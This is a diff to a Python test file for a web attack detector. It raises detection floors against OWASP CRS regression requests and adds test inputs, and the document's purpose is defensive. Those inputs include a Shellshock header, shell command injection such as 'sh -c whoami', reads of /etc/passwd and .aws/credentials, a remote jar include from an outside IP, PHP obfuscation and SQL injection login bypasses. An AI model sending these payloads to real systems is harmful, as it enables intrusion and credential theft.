@@ -45,18 +45,20 @@ def test_detections_from_access_logs_through_the_pipeline(tmp_path):
 
 
 def test_crs_regression_tests_per_class():
-    """OWASP CRS's regression requests: detection per class, and the near-misses CRS's authors call benign.
-    The floors are the figures reached, so a change that loses detections fails here (issue 4's targets are
-    higher; the closing note explains the gap)."""
+    """OWASP CRS's regression requests: detection per class, at CRS's default paranoia level and at all levels,
+    and the near-misses CRS's authors call benign. The floors are the figures reached, so a change that loses
+    detections fails here."""
     from garrison.evaluate.suites import crs
 
     rows = {r.cls: r for r in crs(DATA)}
-    floors = {"lfi": 0.95, "xss": 0.90, "java": 0.90, "php": 0.75, "sqli": 0.68, "rce": 0.53, "rfi": 0.60}
+    floors = {"lfi": 0.95, "xss": 0.90, "java": 0.90, "php": 0.88, "rce": 0.75, "sqli": 0.70, "rfi": 0.60,
+              "sqli, CRS paranoia 1": 0.95, "rce, CRS paranoia 1": 0.90, "php, CRS paranoia 1": 0.95,
+              "rfi, CRS paranoia 1": 1.0}
     for cls, floor in floors.items():
-        assert rows[cls].positives > 30 and rows[cls].recall >= floor, rows[cls]
+        assert rows[cls].positives > 10 and rows[cls].recall >= floor, rows[cls]
     for cls in ("sqli", "xss", "rce", "php"):
-        benign = rows[f"{cls}: near-misses described as benign"]
-        assert benign.negatives > 40 and benign.fp_rate <= 0.10, benign
+        benign = rows[f"{cls}, benign near-misses"]
+        assert benign.negatives > 40 and benign.fp_rate <= 0.09, benign
 
 
 @pytest.mark.parametrize("parts, cls", [
@@ -74,6 +76,13 @@ def test_crs_regression_tests_per_class():
     ({"body": "a=document/*x*/./*y*/cookie"}, "xss"),
     ({"query": "page=/.aws/credentials"}, "lfi"),
     ({"query": "x=jar:http://203.0.113.9/b.zip!/a"}, "rfi"),
+    ({"query": "cmd=time sh -c whoami"}, "rce"),
+    ({"query": "f=/etc/[p]asswd"}, "rce"),  # a shell glob in place of a file name
+    ({"h:user-agent": "() { :; }; /bin/bash -c 'id'"}, "rce"),  # Shellshock
+    ({"h:x-filename": "wp-config.php"}, "rce"),  # a configuration file uploaded over the site's own
+    ({"query": "x=$_aB_4c #c\r\n[5]//d\r\n['d'] (17)"}, "php"),  # comments between a variable function and its call
+    ({"query": "i=2147483648"}, "sqli"),  # integer-overflow probe
+    ({"body": "email=admin@example.org';"}, "sqli"),  # the query ended early: a login bypass
 ])
 def test_encoded_and_less_common_attacks(parts, cls):
     from garrison.detect.detectors.web import classify
@@ -86,6 +95,8 @@ def test_encoded_and_less_common_attacks(parts, cls):
     "Werke von Haßelt (1599)", 'arg=Die "Union von Europa"', "note=Go to store.\nAt the store, shop.",
     'xml=<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>', "name=Del Barrio&city=Madrid",
     "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+    "q=cat pictures&page=2", "extension=4821&name=Jo", "text=Moreover, phpinfo can leak settings",
+    "pattern=/[a-z]{1,5}/", "q=opening times (weekdays)", "comment=see section 3 (b) and (c)",
 ])
 def test_ordinary_text_stays_quiet(text):
     from garrison.detect.detectors.web import classify
